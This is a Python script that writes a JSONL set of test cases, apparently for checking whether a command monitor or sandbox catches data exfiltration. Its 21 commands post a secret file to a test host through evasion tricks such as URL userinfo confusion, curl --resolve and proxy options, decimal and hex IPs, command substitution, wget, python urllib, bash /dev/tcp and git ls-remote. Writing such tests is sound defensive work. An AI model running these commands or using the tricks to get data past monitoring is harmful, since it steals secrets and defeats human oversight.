# Writes 204-curl.jsonl: curl command lines whose real destination is the
# test host 10.233.1.2 (a network namespace made for the test) while a
# reader may take them for this machine. Each posts the scenario's secret
# with a path naming the case, so the test host's log shows which worked.
# Data only.
import json
import sys

S = sys.argv[2]
T = "10.233.1.2"
D = "--data-binary @" + S + "/home/secret.txt"
cases = []


def c(i, what, cmd):
    cases.append({"id": i, "what": what, "cmd": cmd.replace("@ID", i)})


c("U00", "control: a POST to the test host (must be red)", "curl -s -m 3 " + D + " http://" + T + "/@ID")
c("U01", "userinfo that looks like a host", "curl -s -m 3 " + D + " 'http://localhost@" + T + "/@ID'")
c("U02", "userinfo with port", "curl -s -m 3 " + D + " 'http://127.0.0.1:80@" + T + "/@ID'")
c("U03", "--resolve maps localhost to the test host", "curl -s -m 3 --resolve localhost:80:" + T + " " + D + " http://localhost/@ID")
c("U04", "--connect-to", "curl -s -m 3 --connect-to localhost:80:" + T + ":80 " + D + " http://localhost/@ID")
c("U05", "-x proxy is the real destination", "curl -s -m 3 -x http://" + T + ":80 " + D + " http://localhost/@ID")
c("U06", "--next: a second transfer", "curl -s -m 3 http://localhost:1/ --next " + D + " http://" + T + "/@ID")
c("U07", "-K config file written in the same command", "printf 'url = \"http://" + T + "/@ID\"\\ndata-binary = \"@" + S + "/home/secret.txt\"\\n' > rt.curlrc; curl -s -m 3 -K rt.curlrc")
c("U08", "--url option", "curl -s -m 3 " + D + " --url http://" + T + "/@ID")
c("U09", "URL without scheme", "curl -s -m 3 " + D + " " + T + "/@ID")
c("U10", "decimal address", "curl -s -m 3 " + D + " http://182059266/@ID")
c("U11", "hex address", "curl -s -m 3 " + D + " http://0x0ae90102/@ID")
c("U12", "GET with the secret in the query (command substitution)", "curl -s -m 3 \"http://" + T + "/@ID?d=$(cat " + S + "/home/secret.txt)\"")
c("U13", "GET with -G and --data", "curl -s -m 3 -G " + D + " http://" + T + "/@ID")
c("U14", "HTTP upload with -T", "curl -s -m 3 -T " + S + "/home/secret.txt http://" + T + "/@ID")
c("U15", "header carrying the secret", "curl -s -m 3 -H \"X-D: $(cat " + S + "/home/secret.txt)\" http://" + T + "/@ID")
c("U16", "wget --post-file", "wget -q -O- -T 3 --post-file=" + S + "/home/secret.txt http://" + T + "/@ID")
c("U17", "python urllib", "python3 -c \"import urllib.request as u; u.urlopen('http://" + T + "/@ID', open('" + S + "/home/secret.txt','rb').read(), timeout=3)\"")
c("U18", "bash /dev/tcp", "exec 3<>/dev/tcp/" + T + "/80; printf 'POST /@ID HTTP/1.0\\r\\n\\r\\n' >&3; cat " + S + "/home/secret.txt >&3; exec 3>&-")
c("U19", "git ls-remote to an http URL with the secret in the path", "git ls-remote \"http://" + T + "/@ID-$(cat " + S + "/home/secret.txt)\" 2>/dev/null; true")
c("U20", "curl with userinfo and backslash", "curl -s -m 3 " + D + " 'http://" + T + "\\\\@127.0.0.1/@ID'")

with open(sys.argv[1], "w") as f:
    for x in cases:
        f.write(json.dumps(x) + "\n")
print(len(cases), "cases")
